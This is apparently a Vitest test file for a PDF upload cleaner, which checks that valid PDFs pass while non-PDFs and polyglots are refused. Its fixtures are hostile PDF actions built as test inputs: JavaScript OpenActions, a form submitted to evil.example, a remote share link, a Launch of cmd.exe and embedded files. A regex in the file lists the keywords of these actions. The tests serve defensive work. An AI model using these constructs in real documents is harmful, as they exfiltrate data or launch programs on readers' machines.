import { randomBytes } from "node:crypto";
import { describe, expect, it } from "vitest";
import { IDEA_PDF_MAX_BYTES } from "#contract/ideas/idea-options.ts";
import { clean, fateOf } from "#tests/pdf/fate-of.ts";
import { makePdf, objectStream, pageWith, pdfOfSize, pdfStream, rawPdfStream } from "#tests/pdf/make-pdf.ts";
import { readPdf } from "#tests/pdf/read-pdf.ts";

const MB = 1024 * 1024;

/** What comes out, as programs see it that are not ours. */
async function cleaned(file: Buffer) {
  const result = await clean(file);
  if ("refused" in result) throw new Error(`Refused: ${result.refused}`);
  return readPdf(result.bytes);
}

const page = "BT /F1 24 Tf 72 700 Td (Uma ideia) Tj ET";
const inObjects = (objects: string) => makePdf({ objects: [objectStream(objects)] });

describe("a PDF is taken", () => {
  it.each<[string, Buffer]>([
    ["as small as it can be", makePdf()],
    ["of version 1.4", makePdf({ header: "%PDF-1.4" })],
    ["of version 2.0", makePdf({ header: "%PDF-2.0" })],
    [
      "with text and pictures",
      makePdf({ objects: [pdfStream("", page), pdfStream("/Subtype /Image", randomBytes(MB))] }),
    ],
    ["with its structure packed", inObjects("<< /Title (A ideia) /Author (Ana) >>")],
    ["with blank lines at its end", makePdf({ after: "\r\n\0\0" })],
    ["that opens at a page of its own", makePdf({ catalogue: "/OpenAction [3 0 R /Fit]" })],
    ["with JavaScript in its text", makePdf({ objects: [pdfStream("", "(HTML/CSS/JavaScript) Tj")] })],
    [
      "with a name that only begins like a bad one",
      makePdf({ catalogue: "/Dests << /LaunchEvent [3 0 R /Fit] >>" }),
    ],
    ["of 10 MB", pdfOfSize(IDEA_PDF_MAX_BYTES)],
  ])("%s", async (_, pdf) => {
    expect(await fateOf(pdf)).toBe("taken");
  });
});

describe("what is no PDF is refused, whatever it is called", () => {
  const pdf = makePdf();
  it.each<[string, Buffer]>([
    ["a picture", Buffer.concat([Buffer.from("\x89PNG\r\n\x1a\n", "latin1"), randomBytes(2_000)])],
    ["a page of HTML", Buffer.from("<!doctype html><script>alert(1)</script>")],
    ["an archive", Buffer.concat([Buffer.from("PK\u0003\u0004"), randomBytes(500)])],
    ["a program", Buffer.concat([Buffer.from("\x7fELF", "latin1"), randomBytes(500)])],
    ["only the first line of one", Buffer.from("%PDF-1.7\n")],
    ["only the last line of one", Buffer.from("startxref\n0\n%%EOF")],
    ["one with HTML before it", Buffer.concat([Buffer.from("<script>alert(1)</script>\n"), pdf])],
    ["one with something after it", makePdf({ after: "\n<script>alert(1)</script>" })],
    ["one that is cut short", pdf.subarray(0, -30)],
    ["one that is an archive too, by its last bytes", makePdf({ after: `\n${zipEnd(0)}` })],
    ["one that is an archive too, its end in the archive's comment", archiveAroundEnd()],
    ["one of a version that there is not", makePdf({ header: "%PDF-9.9" })],
    ["a header with a longer number", makePdf({ header: "%PDF-1.77" })],
  ])("%s", async (_, file) => {
    expect(await fateOf(file)).toBe("not_pdf");
  });
});

/** The end record of an archive with a comment of this length. */
function zipEnd(commentLength: number): string {
  const record = Buffer.alloc(22);
  record.write("PK\u0005\u0006", "latin1");
  record.writeUInt16LE(commentLength, 20);
  return record.toString("latin1");
}

/** The archive's end is in a comment of the PDF, and the PDF's end is the archive's comment. */
function archiveAroundEnd(): Buffer {
  const whole = makePdf({ trailer: `%${zipEnd(0)}\n` });
  const at = whole.indexOf("PK\u0005\u0006");
  whole.writeUInt16LE(whole.length - at - 22, at + 20);
  return whole;
}

describe("what acts, links or carries files does not come out, and the page does", () => {
  const js = "/S /JavaScript /JS (app.alert(1))";
  const onOpening = (action: string) =>
    makePdf({ ...pageWith("Uma ideia"), catalogue: `/OpenAction << ${action} >>` });
  const inPage = (entries: string, objects: Buffer[] = []) => {
    const { objects: content, page } = pageWith("Uma ideia");
    return makePdf({ objects: [...content, ...objects], page: `${page} ${entries}` });
  };
  const unnamedStream = pdfStream("/N 1 /First 5", `10 0 << ${js} >>`);
  const predicted = pdfStream(
    "/Type /ObjStm /N 1 /First 5 /DecodeParms << /Predictor 12 /Columns 8 >>",
    `10 0 << ${js} >>`,
  );
  it.each<[string, Buffer]>([
    ["a script that runs when it opens", onOpening(js)],
    ["a script whose name is disguised", onOpening("/S /J#61vaScr#69pt /J#53 (app.alert(1))")],
    ["a form that is sent somewhere", onOpening("/S /SubmitForm /F (https://evil.example/)")],
    ["a link", onOpening("/S /URI /URI (https://evil.example/)")],
    ["a page of another file", onOpening("/S /GoToR /F (\\\\\\\\evil.example\\\\share) /D [0 /Fit]")],
    ["a page of a file inside", onOpening("/S /GoToE /T << /R /C /N (x) >> /D [0 /Fit]")],
    ["values from a file", onOpening("/S /ImportData /F (https://evil.example/)")],
    ["a program", onOpening("/S /Launch /F (cmd.exe)")],
    ["a film with a script", onOpening("/S /Rendition /JS (app.alert(1))")],
    [
      "a script in an object stream",
      makePdf({ ...pageWith("Uma ideia", objectStream(`<< ${js} >>`)), catalogue: "/OpenAction 10 0 R" }),
    ],
    [
      "a script in an object stream without a type",
      makePdf({ ...pageWith("Uma ideia", unnamedStream), catalogue: "/OpenAction 10 0 R" }),
    ],
    [
      "a script in an object stream with a predictor",
      makePdf({ ...pageWith("Uma ideia", predicted), catalogue: "/OpenAction 10 0 R" }),
    ],
    ["a script of the page", inPage(`/AA << /O << ${js} >> >>`)],
    [
      "a script behind a link of the page",
      inPage(`/Annots [<< /Subtype /Link /Rect [0 0 99 99] /A << ${js} >> >>]`),
    ],
    [
      "a script among the fonts",
      makePdf(pageWith("Uma ideia", undefined, `/Evil << ${js} /A << ${js} >> >>`)),
    ],
    ["a script in what no program knows", inPage(`/PieceInfo << /X << ${js} >> >> /Metadata 9 0 R`)],
    [
      "files that it carries",
      makePdf({
        ...pageWith("Uma ideia", pdfStream("/Type /EmbeddedFile", "MZ")),
        catalogue: "/Names << /EmbeddedFiles << /Names [(a) << /EF << /F 6 0 R >> >>] >> >>",
      }),
    ],
    [
      "content that lies in another file",
      inPage("", [rawPdfStream("/F (https://evil.example/)", Buffer.from(" "))]),
    ],
    [
      "who wrote it",
      makePdf({ ...pageWith("Uma ideia", "<< /Author (evil.example) /JS 1 >>"), trailer: "/Info 6 0 R" }),
    ],
  ])("%s", async (_, pdf) => {
    const seen = await cleaned(pdf);
    expect(seen.problems).toBe("");
    expect(seen.text.trim()).toBe("Uma ideia");
    expect(seen.plain).not.toMatch(
      /JavaScript|\/JS|alert|evil|SubmitForm|\/URI|GoTo|ImportData|Launch|Rendition|EmbeddedFile|\/EF|OpenAction|\/AA|Annots|Names|Author|PieceInfo/,
    );
  });

  it("fonts, pictures and the parents' attributes come with it", async () => {
    const { objects, page: entries } = pageWith("Uma ideia");
    const seen = await cleaned(
      makePdf({ objects, page: entries, pages: "/MediaBox [0 0 900 800] /Rotate 90" }),
    );
    expect(seen.facts.get("Page size")).toBe("900 x 800 pts");
    expect(seen.facts.get("Page rot")).toBe("90");
    expect(seen.text.trim()).toBe("Uma ideia");
  });

  it.each(["LZWDecode", "ASCIIHexDecode"])("a page packed by %s is shown as before", async (filter) => {
    const hex = Buffer.from(`${Buffer.from(page).toString("hex")}>`);
    // Codes of nine bits, each a byte, between "clear" and "end".
    const codes = [256, ...Buffer.from(page), 257].map((code) => code.toString(2).padStart(9, "0")).join("");
    const lzw = Buffer.from(
      (codes.padEnd(Math.ceil(codes.length / 8) * 8, "0").match(/.{8}/g) ?? []).map((bits) =>
        Number.parseInt(bits, 2),
      ),
    );
    const content = rawPdfStream(`/Filter /${filter}`, filter === "LZWDecode" ? lzw : hex);
    const { objects, page: entries } = pageWith("Uma ideia");
    const seen = await cleaned(makePdf({ objects: [content, ...objects.slice(1)], page: entries }));
    expect([seen.problems, seen.text.trim()]).toEqual(["", "Uma ideia"]);
  });
});

describe("a PDF that would lose something, or hides what it is, is refused", () => {
  const visible = "/Rect [0 0 99 99]";
  const annotated = (entries: string) => makePdf({ page: `/Annots [<< ${entries} >>]` });
  it.each<[string, string, Buffer]>([
    ["protected by a password", "encrypted", makePdf({ trailer: "/Encrypt 9 0 R" })],
    ["protected, its key name disguised", "encrypted", makePdf({ trailer: "/#45ncr#79pt 9 0 R" })],
    ["has a form that is a program", "active_content", makePdf({ catalogue: "/AcroForm << /XFA 7 0 R >>" })],
    ["has a field", "active_content", annotated(`/Subtype /Widget /FT /Tx /V (Ana) ${visible}`)],
    ["has a comment", "active_content", annotated(`/Subtype /FreeText /Contents (Ana) ${visible}`)],
    ["has a file pinned to a page", "active_content", annotated(`/Subtype /FileAttachment ${visible}`)],
    ["has no pages", "not_pdf", makePdf({ pages: "/Kids []" })],
    ["has pages that lead back to themselves only", "not_pdf", makePdf({ pages: "/Kids [2 0 R]" })],
    [
      "packs its page in a way that there is not",
      "not_pdf",
      makePdf({ objects: [rawPdfStream("/Filter /Own", Buffer.from("x"))], page: "/Contents 4 0 R" }),
    ],
    [
      "says that it is packed, and is not",
      "not_pdf",
      makePdf({
        objects: [rawPdfStream("/Filter /FlateDecode", Buffer.from("xxxx"))],
        page: "/Contents 4 0 R",
      }),
    ],
    [
      "has a picture larger than any screen",
      "too_large",
      makePdf({
        objects: [
          rawPdfStream("/Subtype /Image /Width 60000 /Height 60000 /Filter /DCTDecode", Buffer.from("x")),
        ],
        page: "/Resources << /XObject << /I 4 0 R >> >>",
      }),
    ],
  ])("%s", async (_, code, pdf) => {
    expect(await fateOf(pdf)).toBe(code);
  });

  it("a hidden field, or a signature without a place on the page, takes nothing away", async () => {
    expect(await fateOf(annotated(`/Subtype /Widget /F 2 ${visible}`))).toBe("taken");
    expect(await fateOf(annotated("/Subtype /Widget /FT /Sig /Rect [0 0 0 0]"))).toBe("taken");
  });
});
